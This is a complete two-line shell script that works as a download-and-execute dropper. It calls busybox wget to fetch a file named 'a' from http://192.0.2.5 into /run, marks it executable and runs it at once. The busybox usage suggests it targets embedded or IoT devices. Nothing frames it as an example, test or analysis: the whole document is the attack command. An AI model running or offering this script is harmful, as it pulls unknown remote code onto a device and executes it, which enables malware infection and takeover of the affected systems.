#!/bin/sh
busybox wget -q -O /run/a http://192.0.2.5/a && busybox chmod 755 /run/a && /run/a
